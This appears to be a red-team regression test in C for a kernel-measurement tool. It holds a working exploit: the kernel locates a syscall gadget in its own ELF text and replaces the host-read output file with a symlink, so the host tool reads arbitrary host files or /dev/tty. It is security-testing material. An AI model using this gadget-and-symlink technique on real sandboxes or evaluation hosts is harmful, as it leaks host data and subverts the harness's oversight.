/*
 * class:    hostile files left in the candidate's writable dir c<id>/, read
 *           by kope on the host after the run
 * attack:   in the measure run the kernel replaces c<id>/measure.icount (the
 *           icount plugin's output path: kope unlinks it before the run and
 *           fopen()s it after) with a symlink to a host path (@TARGET@, set
 *           by the test). Inside the sandbox the link leads nowhere, so the
 *           plugin writes nothing; kope, on the host, follows it and reads
 *           the host file as the plugin's counts. Pointed at a FIFO it hangs
 *           kope for good (/work/redteam/insider/LOG.md: `timeout 100 kope
 *           measure` -> 124); at /dev/tty it reads the user's keystrokes.
 *           The same file as a FIFO made by mknodat blocks the plugin at
 *           qemu's exit (the run times out).
 * expected: kope refuses to follow it (O_NOFOLLOW, a regular file only);
 *           today: kope reads the host file ("not authenticated")
 */
#include <stddef.h>
#include <stdint.h>
#include <riscv_vector.h>
#include "kernel_abi.h"

static const char icount_path[] = "measure.icount";
static const char target[] = "@TARGET@";

void kope_kernel(size_t rows, size_t cols, const float *x, void *out);

/* A system call without asm: an `ecall; ret` of the C library found in the
 * program's text (bounds from its own ELF headers at the image base), called
 * as a function of eight arguments, so a7 (the number) is the eighth. A
 * vector scan: a few thousand instructions in a counted call. */
typedef long (*g8_fn)(long, long, long, long, long, long, long, long);
static g8_fn find_gadget(void)
{
    volatile uintptr_t basev = 0x10000;
    const unsigned char *b = (const unsigned char *)basev;
    if (b[0] != 0x7f || b[1] != 'E' || b[2] != 'L' || b[3] != 'F') return 0;
    uint64_t phoff; uint16_t phnum, phsz;
    __builtin_memcpy(&phoff, b + 32, 8); __builtin_memcpy(&phsz, b + 54, 2); __builtin_memcpy(&phnum, b + 56, 2);
    for (unsigned i = 0; i < phnum; i++) {
        const unsigned char *ph = b + phoff + (size_t)i * phsz;
        uint32_t type, flags; uint64_t va, fsz;
        __builtin_memcpy(&type, ph, 4); __builtin_memcpy(&flags, ph + 4, 4);
        __builtin_memcpy(&va, ph + 16, 8); __builtin_memcpy(&fsz, ph + 32, 8);
        if (type != 1 || !(flags & 1)) continue;
        volatile uintptr_t vv = va;
        const uint16_t *h = (const uint16_t *)vv;
        size_t n = fsz / 2 - 2;
        for (size_t off = 0; off < n;) {
            size_t vl = __riscv_vsetvl_e16m8(n - off);
            vuint16m8_t v = __riscv_vle16_v_u16m8(h + off, vl);
            long f = __riscv_vfirst_m_b2(__riscv_vmseq_vx_u16m8_b2(v, 0x0073, vl), vl);
            if (f < 0) { off += vl; continue; }
            size_t j = off + (size_t)f;
            if (h[j + 1] == 0 && h[j + 2] == 0x8082) return (g8_fn)(uintptr_t)(h + j);
            off = j + 1;
        }
    }
    return 0;
}

/* sc(NR, a0..a5): the eighth argument is a7 */
#define sc(nr, a, b, c, d, e, f) g((long)(a), (long)(b), (long)(c), (long)(d), (long)(e), (long)(f), 0, (long)(nr))

void kope_kernel(size_t rows, size_t cols, const float *x, void *out)
{
    float *o = out;
    g8_fn g = find_gadget();
    if (g) {
        sc(35, -100, (long)icount_path, 0, 0, 0, 0);                      /* unlinkat */
        sc(36, (long)target, -100, (long)icount_path, 0, 0, 0);              /* symlinkat */
    }
    for (size_t r = 0; r < rows; r++) {
        double s = 0;
        for (size_t c = 0; c < cols; c++) s += x[r * cols + c];
        o[r] = (float)s;
    }
}
